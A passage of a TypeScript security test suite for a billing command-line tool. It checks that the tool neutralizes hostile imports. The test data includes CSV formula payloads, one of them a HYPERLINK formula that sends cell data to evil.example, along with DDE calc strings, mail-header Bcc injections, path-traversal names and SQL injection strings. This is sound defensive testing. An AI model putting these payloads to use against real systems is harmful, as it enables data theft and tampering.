/**
 * Hostile input through the real command line (child processes, real SQLite files, a real SMTP
 * server on 127.0.0.1): spreadsheet formulas in names come out of the statement CSVs neutralized
 * (docs/statements.md), no value can add a mail header or a recipient, no tenant name or
 * L-Platform ID can put a file outside `DATA_DIR/statements/<month>/` or a path into a zip, SQL in
 * names is stored as text, a tenant's files and mails hold its data only (DESIGN invariant 5, over
 * 1,000 tenants), the SMTP password reaches no output and no file, and everything the program
 * writes is readable by its owner only, whatever the umask it is started with.
 *
 * The first four concerns share one hostile cloud (one store, one import of each kind, one pass):
 * every command is a process start, and the suite runs on two cores. Some names the imports refuse
 * are put in the store directly ("data that came in another way", as docs/statements.md calls it),
 * to show that the file and mail writers guard on their own.
 */
import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import type { AddressObject } from 'mailparser';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { AS_OF as CLOUD_AS_OF, FILE_KINDS, REFERENCE_MONTH, writeCloud } from '../../bench/generate.ts';
import { safeFileName } from '../../src/statements/ror-files.ts';
import { until } from '../helpers/child.ts';
import { ROOT, hasStackTrace, runCli, type CliRun } from '../helpers/cli.ts';
import { CONFIGURED_MAIL, afterTest, endTest, smtpServer } from '../helpers/demo-store.ts';
import { startSmtpServer, type ReceivedMessage, type TestSmtpServer } from '../helpers/smtp.ts';
import { snapshot, tempDir } from '../helpers/store.ts';
import { parseCsv, readZip, type CsvCell } from '../helpers/zip-read.ts';
import { storeHandle } from '../../src/store/db.ts';
import { copyDataDir } from '../helpers/store-engine.ts';

const AS_OF = '2026-11-03T00:00:00Z';
const MONTH = '2026-10';
const YYYYMM = '202610';
const BIN = path.join(ROOT, 'bin', 'usage-charges.js');

let work: { dir: string; cleanup: () => void };
beforeAll(() => {
  work = tempDir('uc-security-');
});
afterAll(() => work.cleanup());

afterEach(endTest);

// ---------------------------------------------------------------------------------------------
// Inputs

/** A command's settings; the data dir always among them. */
type Env = Record<string, string> & { DATA_DIR: string };

/** A CSV cell as the import files take it: quoted when it is not empty. */
function cell(value: string): string {
  return value === '' ? '' : `"${value.replaceAll('"', '""')}"`;
}

/** A CSV file: the header, then the rows. */
function csvText(header: string, rows: readonly (readonly string[])[]): string {
  return [header, ...rows.map((r) => r.map(cell).join(','))].join('\n') + '\n';
}

/** The line on which row `i` of `csvText(header, rows)` starts (CRLF, CR and LF inside cells each break a line). */
function lineOf(rows: readonly (readonly string[])[], i: number): number {
  return rows.slice(0, i).reduce((line, r) => line + 1 + (r.join(',').match(/\r\n|\r|\n/g) ?? []).length, 2);
}

const TENANTS_HEADER = 'tenant_name,display_name,cutoff_day,locale';
const CONTACTS_HEADER = 'tenant_name,email,contact_name,active';
const LPLATFORMS_HEADER = 'lplatform_id,tenant_name,lplatform_name';
const USAGE_HEADER =
  'record_id,tenant_name,lplatform_id,resource_id,resource_name,resource_kind,product_id,time_kind,start_at,end_at';
const CATALOG_HEADER =
  'product_id,priority,applicable_from,category,resource_identifier,unit_code,unit_price,product_name,description,charge_type,time_basis';

/** The usage of one L-Platform: its template for the month, a server running 10 hours, and `extra` rows. */
function lplatformUsage(
  tenant: string,
  lp: string,
  serverName: string,
  extra: readonly (readonly string[])[] = [],
): string[][] {
  return [
    [`${lp}-u1`, tenant, lp, lp, lp, 'template', 'TE-0001', 'deployed', '2026-10-01T00:00:00Z', '2026-11-01T00:00:00Z'],
    [
      `${lp}-u2`,
      tenant,
      lp,
      `${lp}-srv1`,
      serverName,
      'virtual_server',
      'VM-0001',
      'operating',
      '2026-10-02T00:00:00Z',
      '2026-10-02T10:00:00Z',
    ],
    ...extra.map((r) => [...r]),
  ];
}

/** A license used for the whole month (a monthly fee), on a resource of its own. */
function licenseUsage(tenant: string, lp: string, resourceName: string, product: string): string[] {
  return [
    `${lp}-u3`,
    tenant,
    lp,
    `${lp}-lic`,
    resourceName,
    'license',
    product,
    'deployed',
    '2026-10-01T00:00:00Z',
    '2026-11-01T00:00:00Z',
  ];
}

/** A scenario's folder under the work dir: its data dir (not created yet) and its input folder. */
function scenario(name: string, extra: Record<string, string> = {}): { root: string; inputs: string; env: Env } {
  const root = path.join(work.dir, name);
  const inputs = path.join(root, 'in');
  fs.mkdirSync(inputs, { recursive: true });
  // Statements in UTF-8: the hostile names include characters cp932 cannot hold (the imports
  // refuse those for tenants written in cp932: test/integration/ingest/encoding.test.ts).
  return {
    root,
    inputs,
    env: {
      DATA_DIR: path.join(root, 'data'),
      BILLING_TZ: 'UTC',
      LOG_LEVEL: 'error',
      CSV_ENCODING: 'utf8',
      ...CONFIGURED_MAIL,
      ...extra,
    },
  };
}

/** Writes `text` as `<dir>/<name>` and returns its path. */
function input(dir: string, name: string, text: string | Buffer): string {
  const file = path.join(dir, name);
  fs.writeFileSync(file, text);
  return file;
}

/** A refused import: exit 2, nothing on stdout, the first line saying so, no stack trace; returns its stderr. */
function expectRefusal(refusal: { file: string; run: CliRun }): string {
  const { file, run } = refusal;
  expect(run.code, run.stderr).toBe(2);
  expect(run.stdout).toBe('');
  expect(run.stderr).toMatch(
    new RegExp(`^error: ${escapeRegExp(file)}: refused, \\d+ problems?; nothing was imported\\n`),
  );
  expect(hasStackTrace(run.stderr)).toBe(false);
  return run.stderr;
}

/** The refusal names each of these rows of its file (by the line it starts on) with the field. */
function expectRowsNamed(
  refusal: { file: string; run: CliRun; rows: readonly (readonly string[])[] },
  rows: readonly (readonly string[])[],
  field: string,
): void {
  const stderr = expectRefusal(refusal);
  expect(rows.length).toBeGreaterThan(0);
  for (const row of rows) {
    const i = refusal.rows.indexOf(row);
    expect(i, JSON.stringify(row)).toBeGreaterThanOrEqual(0);
    expect(stderr, JSON.stringify(row)).toContain(`${refusal.file}:${lineOf(refusal.rows, i)}: ${field}: `);
  }
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

// ---------------------------------------------------------------------------------------------
// The store, the archive and the mails

/** Opens a data dir's store (read-only unless `write`), runs `fn`, closes it. */
function withStore<T>(env: Env, fn: (db: Database.Database) => T, write = false): T {
  const db = new Database(path.join(env.DATA_DIR, 'usage-charges.sqlite'), { readonly: !write, fileMustExist: true });
  try {
    return fn(db);
  } finally {
    db.close();
  }
}

/** Every file and folder under `dir`, as paths relative to it (forward slashes), sorted. */
function walk(dir: string): { rel: string; dir: boolean }[] {
  const out: { rel: string; dir: boolean }[] = [];
  const visit = (rel: string): void => {
    for (const e of fs.readdirSync(path.join(dir, rel), { withFileTypes: true })) {
      const child = rel === '' ? e.name : `${rel}/${e.name}`;
      out.push({ rel: child, dir: e.isDirectory() });
      if (e.isDirectory()) visit(child);
    }
  };
  visit('');
  return out.sort((a, b) => (a.rel < b.rel ? -1 : a.rel > b.rel ? 1 : 0));
}

/** A statement zip's entries as CSV cells, by entry name. */
function zipCsvs(zip: Buffer): Map<string, CsvCell[][]> {
  return new Map(readZip(zip).map((e) => [e.name, parseCsv(e.data.toString('utf8'))]));
}

/** The archived zips of the month, by file name. */
function archivedZips(env: Env): Map<string, Buffer> {
  const dir = path.join(env.DATA_DIR, 'statements', YYYYMM);
  return new Map(
    fs
      .readdirSync(dir)
      .sort()
      .map((f) => [f, fs.readFileSync(path.join(dir, f))]),
  );
}

function sha256(bytes: Buffer): string {
  return crypto.createHash('sha256').update(bytes).digest('hex');
}

/** A header of a parsed message as text. */
function headerText(m: ReceivedMessage, name: string): string {
  const v = m.parsed.headers.get(name);
  return typeof v === 'string' ? v : String(v);
}

/** The header lines of a raw message, unfolded. */
function rawHeaderLines(raw: Buffer): string[] {
  const text = raw.toString('latin1');
  const end = text.indexOf('\r\n\r\n');
  expect(end).toBeGreaterThan(0);
  return text
    .slice(0, end)
    .replace(/\r\n[ \t]/g, ' ')
    .split('\r\n');
}

/**
 * A message goes to one address only: the envelope names it alone, the To header holds it alone,
 * and the header has no Cc, Bcc or other addressing header, each line a well-formed header.
 */
function expectOneRecipient(m: ReceivedMessage, to: string): void {
  expect(m.envelope.rcptTo).toEqual([to]);
  expect((m.parsed.to as AddressObject).value.map((a) => a.address)).toEqual([to]);
  expect(m.parsed.cc).toBeUndefined();
  expect(m.parsed.bcc).toBeUndefined();
  const names = rawHeaderLines(m.raw).map((l) => {
    expect(l, JSON.stringify(l)).toMatch(/^[\x21-\x39\x3b-\x7e]+: ?[^\r\n]*$/);
    return l.slice(0, l.indexOf(':')).toLowerCase();
  });
  for (const banned of ['bcc', 'cc', 'resent-to', 'resent-cc', 'resent-bcc', 'reply-to', 'sender', 'x-evil'])
    expect(names, banned).not.toContain(banned);
  for (const once of ['to', 'from', 'subject', 'message-id', 'x-usage-charges-tenant'])
    expect(
      names.filter((n) => n === once),
      once,
    ).toHaveLength(1);
  expect(headerText(m, 'x-usage-charges-tenant')).not.toMatch(/[\0\r\n]/);
}

// ---------------------------------------------------------------------------------------------
// The hostile cloud: what each concern puts in it

/** Formula starts in their ASCII and full-width forms. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
];
const FX = Array.from({ length: FORMULAS.length + 2 }, (_, i) => `FX${String(i + 1).padStart(2, '0')}`);
const fxServerName = (i: number): string => FORMULAS[(i + 5) % FORMULAS.length]!;
/** Products whose name and identifier start like formulas (shown in ItemColumn2 and 3). */
const LICENSES = [
  { id: 'LIC-EQ', name: '=HYPERLINK("http://evil.example/","x")', ident: '+lic-ident' },
  { id: 'LIC-AT', name: '＠SUM(1,1)', ident: '－lic-ident' },
];
/** Names as imported; the last two tenants then get a tab and a CR at the start, as another source could store them. */
const FX_NAMES = new Map(
  FX.map((t, i) => [t, { display: FORMULAS[i] ?? `plain display ${i}`, lpName: FORMULAS[(i + 3) % FORMULAS.length]! }]),
);
const FX_STORED = [
  { tenant: 'FX09', display: '\t=1+1', lpName: '\t@SUM(A1)' },
  { tenant: 'FX10', display: '\r=1+1', lpName: '\r+1' },
];
const FX_REFUSED = [
  ['FXT1', '\t=1+1', '31', 'en'],
  ['FXT2', '\r=1+1', '31', 'en'],
];

const EVIL = 'evil@evil.example';
/** Display and contact names that look like headers, and how a subject line shows the display name. */
const HI = [
  {
    tenant: 'HI01',
    display: `Bcc: ${EVIL}`,
    locale: 'en',
    contacts: [
      ['ap@hi01.example.com', `Boss\u2028Bcc: ${EVIL}`],
      ["o'brien+x@hi01.example.com", `"Evil" <${EVIL}>`],
    ],
    shown: `Bcc: ${EVIL}`,
  },
  {
    tenant: 'HI02',
    display: `x <${EVIL}>, evil2@evil.example`,
    locale: 'en',
    contacts: [['ap@hi02.example.com', `x\u0085To: ${EVIL}`]],
    shown: `x <${EVIL}>, evil2@evil.example`,
  },
  {
    tenant: 'HI03',
    display: `=?UTF-8?Q?Acme=0D=0ABcc:_${EVIL}?=`,
    locale: 'en',
    contacts: [['ap@hi03.example.com', `=?UTF-8?Q?=0D=0ABcc:_${EVIL}?=`]],
    shown: `=?UTF-8?Q?Acme=0D=0ABcc:_${EVIL}?=`,
  },
  {
    tenant: 'HI04',
    display: `Acme\u0085Bcc: ${EVIL}`,
    locale: 'ja',
    contacts: [['ap@hi04.example.com', '']],
    shown: `Acme Bcc: ${EVIL}`,
  },
  {
    tenant: 'HI05',
    display: `Acme\u2028Bcc: ${EVIL}\u2029Cc: ${EVIL}`,
    locale: 'en',
    contacts: [['ap@hi05.example.com', `Bcc: ${EVIL}`]],
    shown: `Acme Bcc: ${EVIL} Cc: ${EVIL}`,
  },
  {
    tenant: 'HI06',
    display: `Acme%0d%0aBcc: ${EVIL}`,
    locale: 'ja',
    contacts: [['ap@hi06.example.com', '']],
    shown: `Acme%0d%0aBcc: ${EVIL}`,
  },
  // Imported plain; then stored with CRLF in its name and with every address the import refuses.
  {
    tenant: 'HI07',
    display: 'Acme seven',
    locale: 'en',
    contacts: [['ap@hi07.example.com', '']],
    shown: `Acme Bcc: ${EVIL} body`,
  },
];
const HI07_STORED_DISPLAY = `Acme\r\nBcc: ${EVIL}\r\n\r\nbody`;
/** Addresses that are not one plain address (`@hi.` stands for the tenant's domain). */
const BAD_ADDRESSES = [
  `ok@hi.example.com\r\nBcc: ${EVIL}`,
  `ok@hi.example.com\nBcc: ${EVIL}`,
  `ok@hi.example.com\rBcc: ${EVIL}`,
  `ok@hi.example.com, ${EVIL}`,
  `ok@hi.example.com; ${EVIL}`,
  'Ok <ok@hi.example.com>',
  `ok@hi.example.com%0d%0aBcc:${EVIL}`,
  `"ok\r\nBcc: ${EVIL}"@hi.example.com`,
  `ok@hi.example.com\u2028Bcc: ${EVIL}`,
];
/** A contact whose name holds CRLF and header lines, stored as another source could (a plain address). */
const STORED_CONTACT = { tenant: 'HI06', email: 'ap2@hi06.example.com', name: `Boss\r\nBcc: ${EVIL}\r\nX-Evil: 1` };
const HX_REFUSED = [
  ['HX1', `Acme\r\nBcc: ${EVIL}`, '31', 'en'],
  ['HX2', `Acme\nBcc: ${EVIL}`, '31', 'en'],
  ['HX3', `Acme\rBcc: ${EVIL}`, '31', 'en'],
];

/** Tenant names and L-Platform IDs the imports accept although they look odd. */
const KEPT_TENANTS = ['PA-deadbeef', 'PA_20261120', `P${'A'.repeat(31)}`, 'COM10', 'con1'];
const KEPT_LPS = ['CON', 'nul', 'Aux', 'LPT1', 'COM0', 'x-0123abcd', 'y_20261120', `Q${'q'.repeat(63)}`];
const ESCAPE_NAMES = [
  '../x',
  '..\\x',
  '/etc/passwd',
  'C:\\x',
  'CON',
  'con',
  'nul.txt',
  'LPT1',
  '.',
  '..',
  '-x',
  'L'.repeat(33),
  'x'.repeat(300),
  'a b',
  'テナント',
];
const ESCAPE_IDS = [
  '../../lp',
  '..\\lp',
  '/etc/lp',
  'C:\\lp',
  'lp.csv',
  '.',
  '..',
  `Q${'q'.repeat(64)}`,
  '-lp',
  'lp/x',
];
/** Names the imports refuse, stored in place of plain ones (PH01...) as another source could. */
const HOSTILE = [
  { tenant: '../x', lp: '../../../../lp-escape' },
  { tenant: '..\\x', lp: '..\\..\\lp-escape' },
  { tenant: '/etc/passwd', lp: '/etc/shadow' },
  { tenant: 'C:\\x', lp: 'C:\\Windows\\lp' },
  { tenant: 'a\0b', lp: 'lp\0x' },
  { tenant: 'CON', lp: 'PRN' },
  { tenant: 'nul.txt', lp: 'aux.csv' },
  { tenant: '..', lp: '.' },
  { tenant: 'x'.repeat(300), lp: `${'y'.repeat(250)}/../z` },
  { tenant: '日本/テナント', lp: '\\\\server\\share\\lp' },
].map((h, i) => ({ ...h, plain: `PH${String(i + 1).padStart(2, '0')}` }));
/** The L-Platforms of the path tenants, by their imported names. */
const P_LPS = new Map<string, string[]>([
  [KEPT_TENANTS[0]!, KEPT_LPS.slice(0, 4)],
  [KEPT_TENANTS[1]!, KEPT_LPS.slice(4)],
  ...KEPT_TENANTS.slice(2).map((t) => [t, [`${t}-LP1`]] as [string, string[]]),
  ...HOSTILE.map((h) => [h.plain, [`${h.plain}-LP1`]] as [string, string[]]),
]);

const SQL = [
  "'; DROP TABLE tenants; --",
  '" OR 1=1',
  "Robert'); --",
  "Robert'); DROP TABLE usage_records; --",
  "' OR '1'='1",
];
const SQ = ['SQ1', 'SQ2', 'SQ3'];
const SQL_PRODUCT = {
  id: 'SQL-1',
  name: "x'); DELETE FROM catalog_products; --",
  description: '" OR ""="',
  ident: SQL[4]!,
};
const SQL_CONTACT = "o'hara'--@sq1.example.com";
const SQL_REASON = "'); DROP TABLE audit_log; --";
const SQL_REFUSED = {
  tenants: [
    [SQL[0]!, 'x', '31', 'en'],
    ["SQ4' OR '1'='1", 'x', '31', 'en'],
  ],
  lplatforms: [
    ["LP' OR '1'='1", 'SQ1', 'x'],
    ['LP2', "SQ1'--", 'x'],
  ],
  usage: [
    [
      "r'); DROP TABLE usage_records; --",
      'SQ1',
      'SQ1-LP1',
      'srv',
      'x',
      'virtual_server',
      'VM-0001',
      'operating',
      '2026-10-03T00:00:00Z',
      '2026-10-03T01:00:00Z',
    ],
  ],
};

/** Every tenant of the cloud as imported. */
const CLOUD_TENANTS = [...FX, ...HI.map((h) => h.tenant), ...P_LPS.keys(), ...SQ];
/** The contacts rows as imported: one or two per tenant. */
const CONTACTS: string[][] = [
  ...FX.map((t) => [t, `billing@${t.toLowerCase()}.example.com`, 'Billing', 'true']),
  ...HI.flatMap((h) => h.contacts.map(([email, name]) => [h.tenant, email!, name!, 'true'])),
  ...[...P_LPS.keys()].map((t, i) => [t, `billing@p${i}.example.com`, '', 'true']),
  ...SQ.map((t, i) => [t, `ap@${t.toLowerCase()}.example.com`, SQL[(i + 1) % SQL.length]!, 'true']),
  ['SQ1', SQL_CONTACT, SQL[4]!, 'true'],
];

/** The cloud's five import files (no coupons), as CSV text. */
function cloudInputs(): Record<'tenants' | 'contacts' | 'lplatforms' | 'catalog' | 'usage', string> {
  const tenants = [
    ...FX.map((t, i) => [t, FX_NAMES.get(t)!.display, '31', i % 2 ? 'ja' : 'en']),
    ...HI.map((h) => [h.tenant, h.display, '31', h.locale]),
    ...[...P_LPS.keys()].map((t) => [t, `display ${t}`, '31', 'en']),
    ...SQ.map((t, i) => [t, SQL[i]!, '31', 'en']),
  ];
  const lplatforms = [
    ...FX.map((t) => [`${t}-LP1`, t, FX_NAMES.get(t)!.lpName]),
    ['FX01-LP2', 'FX01', '-'],
    ...HI.map((h) => [`${h.tenant}-LP1`, h.tenant, `Bcc: ${EVIL}`]),
    ...[...P_LPS].flatMap(([t, lps]) => lps.map((lp) => [lp, t, `name of ${lp}`])),
    ...SQ.map((t, i) => [`${t}-LP1`, t, SQL[(i + 2) % SQL.length]!]),
  ];
  const products = [
    ['TE-0001', '0', '2020-01-01T00:00:00Z', 'template', 'TE_01', 'month', '200', 'Template', 'Template', '', ''],
    [
      'VM-0001',
      '0',
      '2020-01-01T00:00:00Z',
      'vm',
      'image001',
      'hour',
      '1.2',
      'Virtual server image001',
      'Virtual L-Server image',
      '',
      'operating',
    ],
    ...LICENSES.map((p) => [
      p.id,
      '0',
      '2020-01-01T00:00:00Z',
      'license',
      p.ident,
      'month',
      '1000',
      p.name,
      '=cmd description',
      'monthly_fixed',
      '',
    ]),
    [
      SQL_PRODUCT.id,
      '0',
      '2020-01-01T00:00:00Z',
      'license',
      SQL_PRODUCT.ident,
      'month',
      '1000',
      SQL_PRODUCT.name,
      SQL_PRODUCT.description,
      'monthly_fixed',
      '',
    ],
  ];
  const usage = [
    ...FX.flatMap((t, i) =>
      lplatformUsage(t, `${t}-LP1`, fxServerName(i), [
        licenseUsage(t, `${t}-LP1`, fxServerName(i), LICENSES[i % 2]!.id),
      ]),
    ),
    ...lplatformUsage('FX01', 'FX01-LP2', 'plain'),
    ...HI.flatMap((h) => lplatformUsage(h.tenant, `${h.tenant}-LP1`, `srv\u2028Bcc: ${EVIL}`)),
    ...[...P_LPS].flatMap(([t, lps]) => lps.flatMap((lp) => lplatformUsage(t, lp, 'srv'))),
    ...SQ.flatMap((t, i) =>
      lplatformUsage(t, `${t}-LP1`, SQL[(i + 3) % SQL.length]!, [licenseUsage(t, `${t}-LP1`, SQL[3]!, SQL_PRODUCT.id)]),
    ),
  ];
  return {
    tenants: csvText(TENANTS_HEADER, tenants),
    contacts: csvText(CONTACTS_HEADER, CONTACTS),
    lplatforms: csvText(LPLATFORMS_HEADER, lplatforms),
    catalog: csvText(CATALOG_HEADER, products),
    usage: csvText(USAGE_HEADER, usage),
  };
}

/** Contact names with line breaks (the import refuses them). */
const CONTACT_NAMES_REFUSED = [
  ['HI01', 'boss@hi01.example.com', `Boss\r\nBcc: ${EVIL}`, 'true'],
  ['HI01', 'boss2@hi01.example.com', `Boss\nBcc: ${EVIL}`, 'true'],
];
/** The refused files: rows of every concern, each kind in one file (a refused file lists every problem). */
const REFUSED_ROWS = {
  tenants: [...SQL_REFUSED.tenants, ...ESCAPE_NAMES.map((n) => [n, 'x', '31', 'en']), ...FX_REFUSED, ...HX_REFUSED],
  contacts: [...BAD_ADDRESSES.map((a) => ['HI01', a.replace('@hi.', '@hi01.'), '', 'true']), ...CONTACT_NAMES_REFUSED],
  lplatforms: [...SQL_REFUSED.lplatforms, ...ESCAPE_IDS.map((id) => [id, 'COM10', 'x'])],
  usage: SQL_REFUSED.usage,
};

type Refusal = { file: string; run: CliRun; rows: string[][] };

/** What the hostile cloud's store, pass and follow-up commands gave, for the checks. */
interface HostileCloud {
  s: ReturnType<typeof scenario>;
  smtp: TestSmtpServer;
  schemaAfterImport: unknown[];
  /** The store before and after the refused imports. */
  aroundRefusals: [unknown, unknown];
  refusals: Record<keyof typeof REFUSED_ROWS, Refusal> & { nul: Refusal };
  run: CliRun;
  /** Every message of the pass. */
  pass: ReceivedMessage[];
  /** tenant name (as stored) -> its zip's name and bytes */
  zips: Map<string, { name: string; bytes: Buffer }>;
  /** Commands given hostile values after the pass, refused; the store before and after them. */
  asked: { args: string[]; run: CliRun }[];
  aroundAsked: [unknown, unknown];
  resendTo: { to: string; run: CliRun }[];
  resendBadReason: CliRun;
  /** Resends to the contacts of HI01 and SQ1, and the messages each sent. */
  resends: Record<'HI01' | 'SQ1', { run: CliRun; messages: ReceivedMessage[] }>;
  schemaAtEnd: unknown[];
}

let cloud: HostileCloud;
let hostileSmtp: TestSmtpServer | undefined;

function schemaOf(env: Env): unknown[] {
  return withStore(env, (db) =>
    db.prepare('SELECT type, name, tbl_name, sql FROM sqlite_master ORDER BY type, name').all(),
  );
}

/** The tenant names as the store holds them when the pass runs. */
const FINAL_TENANTS = CLOUD_TENANTS.map((t) => HOSTILE.find((h) => h.plain === t)?.tenant ?? t);
const finalLps = (tenant: string): string[] => {
  const h = HOSTILE.find((x) => x.tenant === tenant);
  return h ? [h.lp] : tenant === 'FX01' ? ['FX01-LP1', 'FX01-LP2'] : (P_LPS.get(tenant) ?? [`${tenant}-LP1`]);
};
const zipNameOf = (tenant: string): string => `${YYYYMM}_${safeFileName(tenant)}.zip`;

describe('a hostile cloud (imports, one pass, follow-up commands)', () => {
  beforeAll(async () => {
    const s = scenario('hostile');
    const files = cloudInputs();
    for (const kind of ['tenants', 'contacts', 'lplatforms', 'catalog', 'usage'] as const) {
      const r = await runCli(['import', kind, input(s.inputs, `${kind}.csv`, files[kind])], s.env);
      expect(r.stderr, kind).toBe('');
      expect(r.code, kind).toBe(0);
    }
    const schemaAfterImport = schemaOf(s.env);

    // The refused files, at once (each is refused whole, so they change nothing).
    const before = withStore(s.env, (db) => snapshot(storeHandle(db)));
    const refuse = async (kind: string, name: string, text: string | Buffer, rows: string[][]): Promise<Refusal> => {
      const file = input(s.inputs, name, text);
      return { file, run: await runCli(['import', kind, file], s.env), rows };
    };
    const [tenants, nul, contacts, lplatforms, usage] = await Promise.all([
      refuse('tenants', 'tenants-refused.csv', csvText(TENANTS_HEADER, REFUSED_ROWS.tenants), REFUSED_ROWS.tenants),
      refuse('tenants', 'tenants-nul.csv', Buffer.from(`${TENANTS_HEADER}\na\0b,x,31,en\n`), [
        ['a\0b', 'x', '31', 'en'],
      ]),
      refuse(
        'contacts',
        'contacts-refused.csv',
        csvText(CONTACTS_HEADER, REFUSED_ROWS.contacts),
        REFUSED_ROWS.contacts,
      ),
      refuse(
        'lplatforms',
        'lplatforms-refused.csv',
        csvText(LPLATFORMS_HEADER, REFUSED_ROWS.lplatforms),
        REFUSED_ROWS.lplatforms,
      ),
      refuse('usage', 'usage-refused.csv', csvText(USAGE_HEADER, REFUSED_ROWS.usage), REFUSED_ROWS.usage),
    ]);
    const after = withStore(s.env, (db) => snapshot(storeHandle(db)));

    // What another source could have stored: names and addresses the imports refuse.
    withStore(
      s.env,
      (db) => {
        const rename = db.prepare('UPDATE tenants SET tenant_name = ? WHERE tenant_name = ?');
        const renameLp = db.prepare('UPDATE lplatforms SET lplatform_id = ? WHERE lplatform_id = ?');
        for (const h of HOSTILE) {
          expect(rename.run(h.tenant, h.plain).changes).toBe(1);
          expect(renameLp.run(h.lp, `${h.plain}-LP1`).changes).toBe(1);
        }
        for (const f of FX_STORED) {
          expect(
            db.prepare('UPDATE tenants SET display_name = ? WHERE tenant_name = ?').run(f.display, f.tenant).changes,
          ).toBe(1);
          expect(
            db
              .prepare('UPDATE lplatforms SET lplatform_name = ? WHERE lplatform_id = ?')
              .run(f.lpName, `${f.tenant}-LP1`).changes,
          ).toBe(1);
        }
        const hi07 = db.prepare("SELECT tenant_pk FROM tenants WHERE tenant_name = 'HI07'").pluck().get() as number;
        db.prepare('UPDATE tenants SET display_name = ? WHERE tenant_pk = ?').run(HI07_STORED_DISPLAY, hi07);
        const add = db.prepare(`INSERT INTO contacts (tenant_pk, email, contact_name, active, created_at, updated_at)
        VALUES (?, ?, ?, 1, '2026-10-01T00:00:00.000Z', '2026-10-01T00:00:00.000Z')`);
        for (const a of BAD_ADDRESSES) add.run(hi07, a.replace('@hi.', '@hi07.'), `x\r\nBcc: ${EVIL}`);
        const hi06 = db
          .prepare('SELECT tenant_pk FROM tenants WHERE tenant_name = ?')
          .pluck()
          .get(STORED_CONTACT.tenant) as number;
        add.run(hi06, STORED_CONTACT.email, STORED_CONTACT.name);
      },
      true,
    );

    const smtp = await startSmtpServer();
    hostileSmtp = smtp;
    const env = { ...s.env, SMTP_URL: smtp.url };
    const run = await runCli(['run', '--as-of', AS_OF], env);
    const pass = [...smtp.messages];
    const stored = withStore(
      s.env,
      (db) =>
        db
          .prepare(
            `SELECT t.tenant_name AS tenant, f.zip_name AS zipName, f.zip_path AS zipPath
      FROM statement_files f JOIN statements s USING (statement_pk) JOIN tenants t USING (tenant_pk)`,
          )
          .all() as { tenant: string; zipName: string; zipPath: string }[],
    );
    const zips = new Map(
      stored.map((f) => {
        expect(f.zipPath.split(path.sep).join('/')).toBe(`statements/${YYYYMM}/${f.zipName}`);
        return [f.tenant, { name: f.zipName, bytes: fs.readFileSync(path.join(s.env.DATA_DIR, f.zipPath)) }];
      }),
    );

    // Hostile values given to commands: all refused, together.
    const asked = [
      ['resend', '--tenant', SQL[0]!, '--month', MONTH],
      ['history', '--tenant', SQL[4]!],
      ['estimate', '--tenant', SQL[1]!, '--as-of', '2026-10-15T00:00:00Z'],
      ['status', '--month', `${MONTH}' OR '1'='1`],
      ['export', '--format', 'ecl-detail', '--month', MONTH, '--tenant', SQL[2]!],
    ];
    const tos = [
      `a@hi01.example.com\r\nBcc: ${EVIL}`,
      `a@hi01.example.com\nBcc: ${EVIL}`,
      `a@hi01.example.com, ${EVIL}`,
      `Evil <${EVIL}>`,
      `a@hi01.example.com\u2028Bcc: ${EVIL}`,
    ];
    const beforeAsked = withStore(s.env, (db) => snapshot(storeHandle(db)));
    const answers = await Promise.all([
      ...asked.map((a) => runCli(a, s.env, s.root)),
      ...tos.map((to) => runCli(['resend', '--tenant', 'HI01', '--month', MONTH, '--to', to], env)),
      runCli(['resend', '--tenant', 'HI01', '--month', MONTH, '--reason', `x\r\nBcc: ${EVIL}`], env),
    ]);
    const afterAsked = withStore(s.env, (db) => snapshot(storeHandle(db)));

    // Resends to the contacts (each a new delivery, audited).
    const resend = async (
      tenant: 'HI01' | 'SQ1',
      reason: string,
    ): Promise<{ run: CliRun; messages: ReceivedMessage[] }> => {
      const mark = smtp.messages.length;
      const r = await runCli(['resend', '--tenant', tenant, '--month', MONTH, '--reason', reason], env);
      return { run: r, messages: smtp.messages.slice(mark) };
    };
    const resends = { HI01: await resend('HI01', `Bcc: ${EVIL}`), SQ1: await resend('SQ1', SQL_REASON) };

    cloud = {
      s,
      smtp,
      schemaAfterImport,
      aroundRefusals: [before, after],
      refusals: { tenants, nul, contacts, lplatforms, usage },
      run,
      pass,
      zips,
      asked: asked.map((args, i) => ({ args, run: answers[i]! })),
      aroundAsked: [beforeAsked, afterAsked],
      resendTo: tos.map((to, i) => ({ to, run: answers[asked.length + i]! })),
      resendBadReason: answers.at(-1)!,
      resends,
      schemaAtEnd: schemaOf(s.env),
    };
  });
  afterAll(async () => {
    await hostileSmtp?.close();
  });

  it('the pass closes every tenant and writes its zip; it fails only the deliveries to addresses that are not one plain address', () => {
    const { run } = cloud;
    const sent = CONTACTS.length + 1;
    expect(run.code, run.stderr).toBe(1);
    expect(run.stdout).toMatch(
      new RegExp(
        `^run as of \\S+: ${FINAL_TENANTS.length} statements closed, 0 failed to close; ${FINAL_TENANTS.length} files written, 0 failed; ` +
          `${sent} mails sent, 0 retrying, ${BAD_ADDRESSES.length} failed$`,
        'm',
      ),
    );
    expect(hasStackTrace(run.stderr)).toBe(false);
    expect([...cloud.zips.keys()].sort()).toEqual([...FINAL_TENANTS].sort());
    expect(cloud.pass).toHaveLength(sent);
    // Every message goes to one contact and carries that contact's tenant's archived zip, under its archived name.
    const tenantOf = new Map<string, string>([
      ...CONTACTS.map((c): [string, string] => [c[1]!, HOSTILE.find((h) => h.plain === c[0])?.tenant ?? c[0]!]),
      [STORED_CONTACT.email, STORED_CONTACT.tenant],
    ]);
    for (const m of cloud.pass) {
      expect(m.envelope.rcptTo).toHaveLength(1);
      const zip = cloud.zips.get(tenantOf.get(m.envelope.rcptTo[0]!)!)!;
      expect(m.parsed.attachments).toHaveLength(1);
      expect(m.parsed.attachments[0]!.filename).toBe(zip.name);
      expect(m.parsed.attachments[0]!.content.equals(zip.bytes)).toBe(true);
    }
    expect(new Set(cloud.pass.map((m) => m.envelope.rcptTo[0])).size).toBe(sent);
  });

  // -------------------------------------------------------------------------------------------
